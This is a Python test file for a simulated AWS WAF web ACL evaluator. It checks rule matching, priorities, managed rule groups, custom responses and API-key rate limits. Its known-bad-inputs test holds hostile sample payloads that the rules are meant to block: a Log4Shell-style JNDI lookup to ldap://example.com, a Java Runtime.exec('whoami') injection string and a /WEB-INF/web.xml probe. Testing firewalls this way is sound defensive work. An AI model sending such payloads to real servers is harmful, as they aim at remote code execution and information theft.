"""What rules of a web ACL say of requests, by AWS's pages and by rules that hold for all requests."""

from __future__ import annotations

import base64
from collections import Counter
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sandbox.cloud.firewall_rules import CHECKED_EVERY, Judge, Rates, UnknownRule, check
from sandbox.cloud.web_requests import WebRequest

NO_CHANGE = [{"Priority": 0, "Type": "NONE"}]
SETS = {"checkers": ["192.0.2.0/24", "198.51.100.7/32"]}
HEADERS = ((b"host", b"pay.example.org"), (b"user-agent", b"curl"), (b"x-api-key", b"k"))
REQUEST = WebRequest("203.0.113.9", "GET", "/health", "", HEADERS)


class Moment:
    """A clock that stands still."""

    def __init__(self) -> None:
        self.time = 1_700_000_000.0

    def __call__(self) -> float:
        return self.time


def path(wanted: str, how: str = "EXACTLY", change: str = "NONE") -> dict[str, Any]:
    return {
        "ByteMatchStatement": {
            "SearchString": base64.b64encode(wanted.encode()).decode(),
            "FieldToMatch": {"UriPath": {}},
            "TextTransformations": [{"Priority": 0, "Type": change}],
            "PositionalConstraint": how,
        }
    }


INSIDE = {"IPSetReferenceStatement": {"ARN": "checkers"}}
HEALTH = path("/health")


def rule(name: str, priority: int, statement: dict[str, Any], action: str = "Block", **more: Any) -> dict[str, Any]:
    return {"Name": name, "Priority": priority, "Statement": statement, "Action": {action: {}}, **more}


def group(name: str, override: str = "None", **more: Any) -> dict[str, Any]:
    statement = {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": name, **more}}
    return {"Name": name, "Priority": 5, "Statement": statement, "OverrideAction": {override: {}}}


def limited(limit: int = 10, window: int = 60, **more: Any) -> dict[str, Any]:
    key = {"Header": {"Name": "X-Api-Key", "TextTransformations": NO_CHANGE}}
    told = {"Limit": limit, "EvaluationWindowSec": window, "AggregateKeyType": "CUSTOM_KEYS", "CustomKeys": [key]}
    return {"RateBasedStatement": {**told, **more}}


def acl(*rules: dict[str, Any], default: str = "Allow") -> dict[str, Any]:
    bodies = {"refused": {"ContentType": "APPLICATION_JSON", "Content": "{}"}}
    return {"ARN": "acl", "Rules": list(rules), "DefaultAction": {default: {}}, "CustomResponseBodies": bodies}


def refused(status: int, key: str = "refused") -> dict[str, Any]:
    return {"CustomResponse": {"ResponseCode": status, "CustomResponseBodyKey": key}}


def acts(whole: dict[str, Any], request: WebRequest = REQUEST, judge: Judge | None = None) -> list[tuple[str, str]]:
    judge = judge or Judge(SETS.__getitem__, Rates(Moment()))
    check(whole)
    return [(each.rule["Name"] if each.rule else "", each.act) for each in judge.acts(whole, request)]


@pytest.mark.parametrize(
    ("statement", "matches"),
    [
        (HEALTH, True),
        (path("/healt"), False),
        (path("/healt", "STARTS_WITH"), True),
        (path("alth", "ENDS_WITH"), True),
        (path("eal", "CONTAINS"), True),
        (path("/HEALTH", "EXACTLY"), False),
        (path("/health", "EXACTLY", "LOWERCASE"), True),
        (INSIDE, False),
        ({"NotStatement": {"Statement": INSIDE}}, True),
        ({"AndStatement": {"Statements": [INSIDE, HEALTH]}}, False),
        ({"OrStatement": {"Statements": [INSIDE, HEALTH]}}, True),
        ({"AndStatement": {"Statements": [HEALTH, {"NotStatement": {"Statement": INSIDE}}]}}, True),
    ],
)
def test_statements(statement, matches):
    assert acts(acl(rule("r", 0, statement))) == ([("r", "Block")] if matches else [("", "Allow")])


@pytest.mark.parametrize(("source", "inside"), [("192.0.2.200", True), ("198.51.100.8", False), ("2001:db8::1", False)])
def test_an_ip_set_is_of_networks(source, inside):
    found = acts(acl(rule("r", 0, INSIDE, "Allow"), default="Block"), REQUEST._replace(source=source))
    assert found == [("r", "Allow") if inside else ("", "Block")]


@given(st.permutations(["Allow", "Block", "Count", "Count", "Block"]))
def test_rules_are_judged_by_priority_up_to_the_first_that_ends_it(actions):
    rules = [rule(str(place), place, HEALTH, action) for place, action in enumerate(actions)]
    found = acts(acl(*reversed(rules)))
    expected = [(str(place), action) for place, action in enumerate(actions)]
    last = next(place for place, action in enumerate(actions) if action != "Count")
    assert found == expected[: last + 1]


@pytest.mark.parametrize(
    ("name", "change", "found"),
    [
        ("NoUserAgent_HEADER", {"headers": HEADERS[:1]}, True),
        ("UserAgent_BadBots_HEADER", {"headers": ((b"user-agent", b"Nmap Scripting"),)}, True),
        ("SizeRestrictions_BODY", {"body": bytes(8193)}, True),
        ("SizeRestrictions_BODY", {"body": bytes(8192)}, False),
        ("SizeRestrictions_QUERYSTRING", {"query": "a" * 2049}, True),
        ("SizeRestrictions_QUERYSTRING", {"query": "a" * 2048}, False),
        ("SizeRestrictions_URIPATH", {"path": "/" * 1025}, True),
        ("SizeRestrictions_URIPATH", {"path": "/" * 1024}, False),
        ("SizeRestrictions_Cookie_HEADER", {"headers": (*HEADERS, (b"cookie", b"a" * 10_241))}, True),
    ],
)
def test_the_common_rule_set_as_far_as_awss_page_says_it(name, change, found):
    request, common = REQUEST._replace(**change), "AWSManagedRulesCommonRuleSet"
    assert acts(acl(group(common)), request) == ([(common, "Block")] if found else [("", "Allow")])
    assert acts(acl(group(common, "Count")), request) == [*([(common, "Count")] if found else []), ("", "Allow")]
    overridden = group(common, RuleActionOverrides=[{"Name": name, "ActionToUse": {"Count": {}}}])
    assert acts(acl(overridden), request)[-1] == ("", "Allow")
    scoped = group(common, ScopeDownStatement=path("/elsewhere"))
    assert acts(acl(scoped), request) == [("", "Allow")]


def test_what_is_blocked_has_the_response_of_the_action_that_blocks_it():
    judge, common = Judge(SETS.__getitem__, Rates(Moment())), "AWSManagedRulesCommonRuleSet"

    def last(whole: dict[str, Any], **change: Any) -> Any:
        check(whole)
        return list(judge.acts(whole, REQUEST._replace(**change)))[-1]

    by_rule = acl(rule("r", 0, HEALTH) | {"Action": {"Block": refused(429)}})
    assert last(by_rule)[1:] == ("Block", refused(429)["CustomResponse"])
    assert last(by_rule, path="/payment")[1:] == ("Allow", None)
    override = {"Name": "SizeRestrictions_BODY", "ActionToUse": {"Block": refused(403)}}
    whole = acl(group(common, RuleActionOverrides=[override]))
    assert last(whole, body=bytes(9000))[1:] == ("Block", refused(403)["CustomResponse"])
    assert last(whole, path="/" * 2000)[1:] == ("Block", None), "the group's own action"
    assert last(acl(group(common, "Count", RuleActionOverrides=[override])), body=bytes(9000)).act == "Allow"


@pytest.mark.parametrize(
    "change",
    [
        {"method": "PROPFIND"},
        {"path": "/WEB-INF/web.xml"},
        {"headers": ((b"host", b"localhost"), *HEADERS[1:])},
        {"body": b"x=${jndi:ldap://example.com/}"},
        {"query": "(java.lang.Runtime).getRuntime().exec('whoami')"},
    ],
)
def test_known_bad_inputs_by_the_examples_of_awss_page(change):
    known = "AWSManagedRulesKnownBadInputsRuleSet"
    assert acts(acl(group(known))) == [("", "Allow")]
    assert acts(acl(group(known)), REQUEST._replace(**change)) == [(known, "Block")]


def by_key(key: bytes | None) -> WebRequest:
    return REQUEST._replace(headers=HEADERS[:2] if key is None else (*HEADERS[:2], (b"x-api-key", key)))


def test_a_rate_is_of_a_key_within_the_window_as_it_was_at_the_last_look():
    clock = Moment()
    judge, whole = Judge(SETS.__getitem__, Rates(clock)), acl(rule("rate", 0, limited()))

    def blocked(key: bytes | None = b"k") -> bool:
        return acts(whole, by_key(key), judge)[-1][1] == "Block"

    assert not any(blocked() for _ in range(30)), "nobody has looked yet"
    clock.time += CHECKED_EVERY
    assert blocked()
    assert not blocked(b"other")
    assert not blocked(None)
    clock.time += 60
    assert not blocked(), "what it sent is out of the window, but for one"
    clock.time += 2 * CHECKED_EVERY
    assert not blocked()


def test_a_request_without_the_key_is_not_counted():
    clock = Moment()
    judge, whole = Judge(SETS.__getitem__, Rates(clock)), acl(rule("rate", 0, limited()))
    for _ in range(99):
        acts(whole, by_key(None), judge)
    clock.time += CHECKED_EVERY
    assert acts(whole, by_key(None), judge) == acts(whole, by_key(b"k"), judge) == [("", "Allow")]


def test_a_changed_limit_counts_anew_and_a_scope_leaves_others_uncounted():
    clock = Moment()
    judge = Judge(SETS.__getitem__, Rates(clock))
    scoped = acl(rule("rate", 0, limited(ScopeDownStatement=path("/payment"))))
    for _ in range(50):
        acts(acl(rule("rate", 0, limited())), REQUEST, judge)
        acts(scoped, REQUEST, judge)
    clock.time += CHECKED_EVERY
    assert acts(acl(rule("rate", 0, limited())), REQUEST, judge) == [("rate", "Block")]
    assert acts(acl(rule("rate", 0, limited(11))), REQUEST, judge) == [("", "Allow")]
    assert acts(scoped, REQUEST._replace(path="/payment"), judge) == [("", "Allow")]


@given(st.lists(st.tuples(st.sampled_from("ab"), st.integers(0, 15), st.integers(1, 6)), max_size=30))
@example([("a", 0, 10), ("a", 10, 1), ("a", 10, 1)])
def test_who_is_over_the_limit_sent_more_in_the_window_and_who_is_not_did_not(sent):
    clock, seen = Moment(), Counter[tuple[str, float]]()
    judge, whole = Judge(SETS.__getitem__, Rates(clock)), acl(rule("rate", 0, limited(10)))
    for key, step, times in sent:
        clock.time += step
        turn = clock.time // CHECKED_EVERY
        before = sum(count for (who, when), count in seen.items() if who == key and turn - 6 <= when < turn)
        for _ in range(times):
            found = acts(whole, by_key(key.encode()), judge)
            assert (found == [("rate", "Block")]) == (before > 10)
        seen[key, turn] += times


@pytest.mark.parametrize(
    ("whole", "words"),
    [
        (acl(rule("r", 0, {"GeoMatchStatement": {}})), "r: GeoMatchStatement is not judged"),
        (acl(rule("r", 0, {"AndStatement": {"Statements": [HEALTH, {"XssMatchStatement": {}}]}})), "XssMatch"),
        (acl(rule("r", 0, path("x", "CONTAINS_WORD"))), "CONTAINS_WORD"),
        (acl(rule("r", 0, path("x", "EXACTLY", "URL_DECODE"))), "URL_DECODE"),
        (acl(group("AWSManagedRulesSQLiRuleSet")), "AWSManagedRulesSQLiRuleSet"),
        (acl(group("AWSManagedRulesCommonRuleSet", Version="Version_1.0")), "Version"),
        (acl(rule("r", 0, limited(AggregateKeyType="FORWARDED_IP"))), "FORWARDED_IP"),
        (acl(rule("r", 0, limited(CustomKeys=[{"Cookie": {"Name": "c"}}]))), "Cookie"),
        (acl(rule("r", 0, HEALTH, "Captcha")), "Captcha"),
        (acl(rule("r", 0, HEALTH) | {"Action": {"Block": refused(403, "other")}}), "the response other, which is none"),
        (acl(rule("r", 0, HEALTH) | {"Action": {"Count": refused(403)}}), "Count with CustomResponse"),
        (acl(rule("r", 0, HEALTH) | {"Action": {"Allow": {"CustomRequestHandling": {}}}}), "Allow with CustomRequest"),
        (acl(rule("r", 0, {"IPSetReferenceStatement": {"ARN": "a", "IPSetForwardedIPConfig": {}}})), "ForwardedIP"),
    ],
)
def test_what_is_not_judged_is_refused_by_its_name(whole, words):
    with pytest.raises(UnknownRule, match=words):
        check(whole)
